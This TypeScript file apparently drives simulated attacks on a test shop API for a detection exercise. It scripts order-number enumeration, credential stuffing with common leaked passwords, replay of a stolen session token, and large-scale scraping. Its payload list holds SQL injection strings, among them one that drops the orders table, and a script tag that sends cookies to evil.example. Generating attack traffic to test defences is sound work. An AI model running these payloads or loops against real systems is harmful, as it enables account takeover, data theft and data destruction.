import { apiHost, Client, type Reply } from './client.ts'
import type { Random } from './random.ts'
import type { ShopUser } from './seed.ts'
import type { AttackTruth } from './truth.ts'

/** After each call: what came back, and how long the attacker waits before the next, ms. */
export interface AttackStep {
  readonly reply: Reply
  readonly pauseMs: number
}

export interface AttackContext {
  readonly target: string
  readonly users: readonly ShopUser[]
  readonly random: Random
  readonly truth: AttackTruth
}

/** One round of an attack. `walk` never ends by itself; the others do, and are begun again. */
export type Attack = (context: AttackContext) => AsyncGenerator<AttackStep, void, void>

const device = ({ target, truth }: AttackContext): Client =>
  new Client({ target, host: apiHost, userAgent: truth.userAgent, ip: truth.ip })

const userOf = (context: AttackContext): ShopUser => {
  const user = context.users.find(({ username }) => username === context.truth.username)
  if (user === undefined) throw new Error(`The shop has no user ${context.truth.username}.`)
  return user
}

const firstOrder = 1_000
const burst = 40

/**
 * Her own orders first, like anyone. Then number after number: a burst, and after it one about every second and a half
 * for as long as she is let. Refused, she tries again, and signs in anew when her token is over.
 */
async function* walk(context: AttackContext): AsyncGenerator<AttackStep, void, void> {
  const { random } = context
  const mallory = userOf(context)
  const client = device(context)
  yield { reply: await client.signIn(mallory.username, mallory.password), pauseMs: 800 }
  yield { reply: await client.call('GET', '/customers/me'), pauseMs: 900 }
  const own = await client.call('GET', '/orders')
  yield { reply: own, pauseMs: 1_200 }
  for (const { id } of ((own.body as { items?: { id: number }[] } | undefined)?.items ?? []).slice(0, 2)) {
    yield { reply: await client.call('GET', `/orders/${id}`), pauseMs: 1_000 }
  }
  let order = firstOrder
  for (let made = 0; ; made += 1) {
    const path = made % 6 === 5 ? `/orders/${order}/invoice` : `/orders/${order}`
    const reply = await client.call('GET', path)
    yield { reply, pauseMs: made < burst ? random.int(120, 260) : random.int(1_100, 1_900) }
    if (reply.status === 200) order += 1
    else if (reply.status === 404) order = firstOrder
    else if (reply.status === 401)
      yield { reply: await client.signIn(mallory.username, mallory.password), pauseMs: 4_000 }
  }
}

const leaked = ['123456', 'password', 'qwerty123', 'letmein', 'iloveyou', 'Summer2025!', 'welcome1', 'dragon']

/** Sixty accounts, a leaked password each; one of the passwords is right. */
async function* stuffing(context: AttackContext): AsyncGenerator<AttackStep, void, void> {
  const { random, users } = context
  const client = device(context)
  const victims = users.filter(({ role }) => role === 'customer')
  const lucky = random.int(20, 50)
  for (let index = 0; index < 60; index += 1) {
    const victim = random.pick(victims)
    const known = random.chance(0.6)
    const username = known || index === lucky ? victim.email : `user${random.digits(5)}@mail.example`
    const reply = await client.signIn(username, index === lucky ? victim.password : random.pick(leaked))
    client.token = undefined
    yield { reply, pauseMs: random.int(200, 450) }
  }
}

/** The victim's own device signs in and out; then their token turns up at another address. */
async function* replay(context: AttackContext): AsyncGenerator<AttackStep, void, void> {
  const { random } = context
  const victim = userOf(context)
  const own = new Client({
    target: context.target,
    host: apiHost,
    userAgent: 'ShopApp/4.2.1 (iPhone15,3; iOS 18.6)',
    ip: '203.0.113.199',
  })
  await own.signIn(victim.username, victim.password)
  await own.call('GET', '/customers/me')
  const orders = await own.call('GET', '/orders')
  await own.call('POST', '/auth/logout')
  const thief = device(context)
  thief.token = own.token
  yield { reply: await thief.call('GET', '/customers/me'), pauseMs: 900 }
  for (const { id } of ((orders.body as { items?: { id: number }[] } | undefined)?.items ?? []).slice(0, 4)) {
    yield { reply: await thief.call('GET', `/orders/${id}/invoice`), pauseMs: random.int(500, 1_000) }
  }
  yield { reply: await thief.call('GET', '/payments'), pauseMs: 900 }
}

const payloads = [
  "' OR '1'='1",
  "lamp' UNION SELECT 1, sqlite_version(), 3, 4, 5 --",
  "' UNION SELECT id, slug, name, category, price FROM products --",
  "'; DROP TABLE orders; --",
  "lamp' AND (SELECT COUNT(*) FROM sqlite_master) > 0 --",
  '<script>document.location="https://evil.example/?c="+document.cookie</script>',
  '"><img src=x onerror=alert(document.domain)>',
  "admin'/**/OR/**/1=1#",
]

async function* injection(context: AttackContext): AsyncGenerator<AttackStep, void, void> {
  const { random } = context
  const oscar = userOf(context)
  const client = device(context)
  yield { reply: await client.signIn(oscar.username, oscar.password), pauseMs: 700 }
  yield { reply: await client.call('GET', '/products/search?q=lamp'), pauseMs: 700 }
  for (const payload of payloads) {
    yield {
      reply: await client.call('GET', `/products/search?q=${encodeURIComponent(payload)}`),
      pauseMs: random.int(500, 1_100),
    }
  }
}

async function* scraping(context: AttackContext): AsyncGenerator<AttackStep, void, void> {
  const client = device(context)
  for (let page = 1; page <= 8; page += 1) {
    const shelf = await client.call('GET', `/products?page=${page}`)
    yield { reply: shelf, pauseMs: 100 }
    for (const { slug } of (shelf.body as { items?: { slug: string }[] } | undefined)?.items ?? []) {
      yield { reply: await client.call('GET', `/products/${slug}`), pauseMs: 90 }
    }
  }
}

export const attackRounds: Readonly<Record<AttackTruth['id'], Attack>> = {
  walk,
  stuffing,
  replay,
  injection,
  scraping,
}
